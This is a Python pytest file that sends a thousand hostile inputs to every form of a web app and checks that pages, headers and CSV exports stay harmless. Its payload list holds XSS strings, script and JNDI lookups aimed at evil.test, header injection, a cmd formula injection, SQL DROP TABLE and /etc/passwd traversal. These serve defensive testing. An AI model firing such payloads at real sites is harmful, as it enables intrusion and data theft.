"""A thousand hostile inputs on the forms of all pages: refused, or shown as text and harmless in a file."""

from __future__ import annotations

import csv
import io
import itertools
import random
from collections.abc import Iterator
from dataclasses import dataclass, field
from html.parser import HTMLParser
from urllib.parse import urlencode, urljoin, urlsplit

import pytest
from chalice.test import HTTPResponse

from chalicelib.http import CREATOR, PUBLIC, ROUTES
from chalicelib.ops import RateLimits
from tests.identity.land import Land
from tests.identity.test_two_districts import land, ways

__all__ = ["land"]

INPUTS = 1000
MARK = "zq"
TEXTS = (
    "<script>alert('{m}')</script>",
    "</textarea><script src=//evil.test/{m}></script>",
    '"><img src=x onerror=alert("{m}")>',
    "' autofocus onfocus='alert({m})",
    "<svg/onload=alert('{m}')>",
    "javascript:alert('{m}')",
    "https://evil.test/{m}\r\nSet-Cookie: {m}=1",
    "data:text/html,<script>{m}</script>",
    "\u202egnp.{m}\u202c",
    "\u2067{m}\u2066\u200f",
    "a\u200b{m}\u200d\u2060b\ufeff",
    '=HYPERLINK("https://evil.test/{m}")',
    "+{m}|cmd' /C calc'!A0",
    "-2+3+{m}",
    "@SUM({m})",
    "\t={m}",
    "{{{{7*7}}}}{m}{{%import os%}}",
    "%(organisation)s {m} %s %n",
    "${{jndi:ldap://evil.test/{m}}}",
    "'; DROP TABLE people; -- {m}",
    "../../../../etc/passwd{m}",
    "{m}\x00\x08\x1b[31m",
    "Z̸̡̢͔͝a̵̧̛l̶̰̈́g̷̘̑o {m} " + "\u0301" * 60,
    "नमूना {m} \u0915\u094d\u200d\u0937 \ufdfd\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "{m}" + "अ" * 5000,
    "{m}" + "<" * 9000,
    '{{"$ne": "{m}"}}',
    "\ud83d\ude00 &lt;script&gt;{m}&#x3c;b&#x3e;".encode("utf-16", "surrogatepass").decode("utf-16"),
)
TYPED = {"text", "search", "tel", "email", "url", "password", "number", "date", "textarea", ""}
NOT_TRIED = ("/signout", "/signin", "/test")
"""Forms that end the session with which the others are tried, and those that ask a platform at once."""
BIDI = set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
ISOLATED = {"bdi", "textarea", "title", "option"}


@dataclass
class Sent:
    action: str
    method: str
    fields: list[tuple[str, str, str]] = field(default_factory=list)
    """Type, name, value."""


class Reader(HTMLParser):
    """A page as a browser reads it: its forms, and whatever could run or turn round."""

    VOID = frozenset(
        ("area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "rect", "path", "circle")
    )

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.forms: list[Sent] = []
        self.open: list[str] = []
        self.wrong: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        told = {name: value or "" for name, value in attrs}
        if tag not in self.VOID:
            self.open.append(tag)
        if any(name.startswith("on") or MARK in name for name in told) or MARK in tag:
            self.wrong.append(f"<{tag} {told}>")
        if tag == "script" and not told.get("src", "").startswith("/static/"):
            self.wrong.append(f"<script {told}>")
        for name in ("src", "href", "action", "formaction", "hx-get", "hx-post"):
            if urlsplit(told.get(name, "").strip()).scheme.lower() in ("javascript", "vbscript"):
                self.wrong.append(f"{name}={told[name]}")
            if name == "src" and told.get(name, "").startswith("data:text"):
                self.wrong.append(f"{name}={told[name]}")
        if tag == "form":
            self.forms.append(Sent(told.get("action", ""), told.get("method", "get").upper()))
        elif self.forms and told.get("name") and tag in ("input", "textarea", "select", "button"):
            kind = told.get("type", "") if tag == "input" else tag
            self.forms[-1].fields.append((kind, told["name"], told.get("value", "")))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)
        if tag not in self.VOID:
            self.open.pop()

    def handle_endtag(self, tag: str) -> None:
        if tag in self.open:
            while self.open.pop() != tag:
                pass

    def handle_data(self, data: str) -> None:
        if "script" in self.open and data.strip():
            self.wrong.append(f"script: {data[:80]}")
        if MARK in data and BIDI & set(data) and not ISOLATED & set(self.open):
            self.wrong.append(f"turns round outside of <bdi>: {data[:80]!r}")


def read(answer: HTTPResponse, where: str) -> Reader:
    """The page; fails where something of what was typed could run."""
    reader = Reader()
    if "text/html" in str(answer.headers.get("Content-Type", "")):
        reader.feed(answer.body.decode())
    assert reader.wrong == [], (where, reader.wrong)
    return reader


def hostile() -> Iterator[str]:
    """Inputs without end, each with a mark of its own, the same at every run."""
    dice = random.Random(6)
    for number in itertools.count():
        text = TEXTS[number % len(TEXTS)].format(m=f"{MARK}{number}")
        yield text if number < len(TEXTS) else f"{dice.choice(('', ' ', 'राम ', 'x'))}{text}"


def pages(land: Land) -> Iterator[tuple[str, str]]:
    """Every page that an admin, a creator or anybody may look at: who, and its address."""
    for route in ROUTES:
        if route.kind != "page" or route.method != "GET" or route.path.startswith(("/static", "/campaigns")):
            continue
        who = {PUBLIC: "", CREATOR: "creator_a"}.get(route.allow, "admin")
        for path in list(dict.fromkeys(asked.path for asked in ways(route, land.a)))[:2]:
            yield who, path


def ask(land: Land, who: str, method: str, path: str, fields: list[tuple[str, str]]) -> HTTPResponse:
    name = "janjan_me" if who in land.creators else "janjan_session"
    headers = {"Content-Type": "application/x-www-form-urlencoded", "Accept-Language": "en"}
    headers |= {"Cookie": f"{name}={who}"} if who else {}
    sent = urlencode(fields, errors="surrogatepass")
    if method == "GET":
        return land.client.http.get(f"{path.partition('?')[0]}?{sent}", headers=headers)
    return land.client.http.request(method, path, headers=headers, body=sent.encode())


def test_a_thousand_hostile_inputs_are_harmless_on_every_page_and_in_every_file(
    land: Land, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(RateLimits, "spend", lambda *given, **named: None)
    forms: dict[tuple[str, str, str], Sent] = {}
    for who, path in pages(land):
        for form in read(ask(land, who, "GET", path, []), path).forms:
            action = urljoin(path, form.action or path)
            typed = any(kind in TYPED for kind, _, _ in form.fields)
            if typed and not action.partition("?")[0].endswith(NOT_TRIED):
                forms.setdefault((who, action, " ".join(name for _, name, _ in form.fields)), form)
    assert len(forms) > 30
    inputs = hostile()
    answers: dict[int, int] = {}
    for number, ((who, action, _), form) in zip(range(INPUTS), itertools.cycle(forms.items())):
        text = next(inputs)
        fields = [
            (name, text if kind in TYPED else value or (text if number % 7 == 0 else ""))
            for kind, name, value in form.fields
        ]
        answer = ask(land, who, form.method, action, fields)
        assert answer.status_code < 500, (action, text[:80], answer.body[:300])
        told = {name: str(value) for name, value in answer.headers.items() if name.lower() != "location"}
        assert MARK not in str(told), (action, told)
        assert "\n" not in str(answer.headers.get("Location", ""))
        read(answer, f"{action} {text[:60]!r}")
        answers[answer.status_code] = answers.get(answer.status_code, 0) + 1
    assert answers.get(303, 0) > 50, answers  # much of it is taken, and shown:
    shown = 0
    for who, path in pages(land):
        answer = ask(land, who, "GET", path, [])
        assert answer.status_code < 500, path
        read(answer, path)
        shown += MARK.encode() in answer.body
        if "csv" in str(answer.headers.get("Content-Type", "")):
            for row in csv.reader(io.StringIO(answer.body.decode("utf-8-sig"))):
                assert not [cell for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))], path
    assert shown >= 3
